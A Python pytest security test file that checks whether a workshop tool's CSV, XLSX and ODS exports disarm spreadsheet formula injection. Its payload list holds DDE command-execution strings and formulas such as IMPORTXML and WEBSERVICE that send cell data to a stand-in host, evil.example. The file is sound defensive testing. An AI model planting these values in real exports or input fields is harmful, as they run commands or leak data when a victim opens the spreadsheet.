"""Formula injection: CSV, XLSX and ODS — no cell built from user text is a formula, in the
workshop and the process (action plan) exports, whatever field the text was typed into."""
from __future__ import annotations

import re

import pytest

from tests.security.conftest import client_as
from tests.security.hostile import export_cells, ods_formula_cells, plant, xlsx_formula_cells

FORMULAS = [
    "=1+1", "=SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example","x")',
    "=cmd|'/C notepad'!'A1'", "\t=1+1", "\r=1+1", "=1+1\n", '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "+1", "-1", "@", "=", "==1", "=-1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil.example\")",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+([.,]\d+)?%?$")


@pytest.fixture(scope="module")
def planted(app, world):
    return plant(app, world, FORMULAS * 2)


def _downloads(app, world, fmt):
    client = client_as(app, world, "organizer")
    for url in (f"/organize/workshops/{world.a.code}/export/{fmt}",
                f"/organize/processes/{world.process_id}/export/{fmt}",
                f"/api/v1/workshops/{world.a.code}/export/{fmt}"):
        headers = {"Authorization": f"Bearer {world.api_key}"} if url.startswith("/api/") else {}
        response = client.get(url, headers=headers)
        assert response.status_code == 200, (url, response.status_code)
        yield url, response.data


def _dangerous_text_cells(cells):
    return [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.match(c.strip())]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_no_cell_from_user_text_is_a_formula(app, world, planted, fmt):
    for url, data in _downloads(app, world, fmt):
        cells = export_cells(fmt, data)
        assert any("=1+1" in c for c in cells), f"{url}: the planted text is missing"
        assert not _dangerous_text_cells(cells), (url, _dangerous_text_cells(cells)[:5])
        if fmt == "xlsx":
            assert not xlsx_formula_cells(data), url
        if fmt == "ods":
            assert not ods_formula_cells(data), url


def test_neutralised_text_keeps_its_wording(app, world, planted):
    """The apostrophe only disarms; the text after it is what the participant wrote."""
    _url, data = next(_downloads(app, world, "xlsx"))
    cells = export_cells("xlsx", data)
    assert "'=1+1" in cells and "=1+1" not in cells
